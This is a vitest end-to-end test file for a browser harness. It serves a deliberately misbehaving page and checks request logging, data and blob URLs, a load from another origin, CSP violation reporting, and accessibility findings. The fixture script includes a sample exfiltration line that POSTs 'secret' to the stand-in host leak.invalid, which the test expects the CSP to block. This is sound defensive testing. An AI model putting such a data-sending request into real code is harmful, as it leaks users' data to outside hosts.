/**
 * The end-to-end harness checked on a page built to misbehave (served here, under the app's
 * CSP): recordRequests sees the page's and its worker's requests, data: and blob: URLs, a load
 * to another origin and a connection the CSP blocked; checkAccessibility finds a missing alt
 * text; inlineScriptsBlocked tells a page with the CSP from one without.
 */
import { createServer, type Server } from "node:http";
import { afterAll, beforeAll, expect, it } from "vitest";
import { CONTENT_SECURITY_POLICY } from "../../src/app/csp.js";
import {
  type BrowserSession,
  checkAccessibility,
  describeE2E,
  E2E_TIMEOUT,
  inlineScriptsBlocked,
  launchBrowser,
  recordRequests,
} from "./browser.js";

const PIXEL =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";

const FILES: Record<string, [string, string]> = {
  "/": [
    "text/html",
    `<!doctype html><html lang="en"><head><title>Misbehaving page</title>
<script type="module" src="/main.js"></script></head>
<body><main><h1>Test</h1><img src="data:image/png;base64,${PIXEL}"></main></body></html>`,
  ],
  "/main.js": [
    "text/javascript",
    `const png = Uint8Array.from(atob("${PIXEL}"), (c) => c.charCodeAt(0));
const blobUrl = URL.createObjectURL(new Blob([png], { type: "image/png" }));
const img = new Image(); img.alt = "blob"; img.src = blobUrl; document.body.append(img);
const away = new Image(); away.alt = "away"; away.src = "http://leak.invalid/pixel.png"; document.body.append(away);
fetch("http://leak.invalid/upload", { method: "POST", body: "secret" }).catch(() => {});
const worker = new Worker("/worker.js", { type: "module" });
worker.onmessage = () => { document.title = "done"; };`,
  ],
  "/worker.js": [
    "text/javascript",
    `const r = await fetch("/data.json"); await r.text(); postMessage("ok");`,
  ],
  "/data.json": ["application/json", "{}"],
};

describeE2E("the end-to-end harness", () => {
  let server: Server | undefined;
  let origin = "";
  let session: BrowserSession | undefined;

  beforeAll(async () => {
    server = createServer((req, res) => {
      if (req.url === "/no-csp") {
        res.writeHead(200, { "Content-Type": "text/html" }).end("<!doctype html><title>x</title>");
        return;
      }
      const csp = { "Content-Security-Policy": CONTENT_SECURITY_POLICY };
      const file = FILES[req.url ?? ""];
      if (file === undefined) res.writeHead(404, csp).end();
      else res.writeHead(200, { ...csp, "Content-Type": file[0] }).end(file[1]);
    });
    await new Promise<void>((done) => server?.listen(0, "127.0.0.1", done));
    const address = server.address();
    origin = `http://127.0.0.1:${typeof address === "object" && address ? address.port : 0}`;
    session = await launchBrowser();
  }, E2E_TIMEOUT);
  afterAll(async () => {
    await session?.close();
    await new Promise((done) => server?.close(done));
  }, E2E_TIMEOUT);

  it("records every kind of request and the CSP's blocks", async () => {
    if (session === undefined) throw new Error("Not started.");
    const page = await session.context.newPage();
    const log = await recordRequests(page);
    await page.goto(`${origin}/`);
    await page.waitForFunction(() => document.title === "done");
    await page.waitForLoadState("networkidle");

    expect(log.urls).toEqual(
      expect.arrayContaining([
        `${origin}/`,
        `${origin}/main.js`,
        `${origin}/worker.js`,
        `${origin}/data.json`,
      ]),
    );
    expect(log.workers).toEqual([`${origin}/worker.js`]);
    const counts = log.counts(origin);
    expect(counts.data).toBeGreaterThanOrEqual(1);
    expect(counts.blob).toBeGreaterThanOrEqual(1);
    expect(log.outside(origin)).toEqual(["http://leak.invalid/pixel.png"]);
    expect(log.cspViolations.join("\n")).toContain("http://leak.invalid/upload");
    await page.close();
  });

  it("finds serious accessibility violations and tells whether the CSP holds", async () => {
    if (session === undefined) throw new Error("Not started.");
    const page = await session.context.newPage();
    await page.goto(`${origin}/`);
    const violations = await checkAccessibility(page);
    expect(violations.map((v) => v.id)).toContain("image-alt");
    expect(violations.every((v) => v.impact === "serious" || v.impact === "critical")).toBe(true);
    expect(await inlineScriptsBlocked(page)).toBe(true);
    await page.goto(`${origin}/no-csp`);
    expect(await inlineScriptsBlocked(page)).toBe(false);
    await page.close();
  });
});
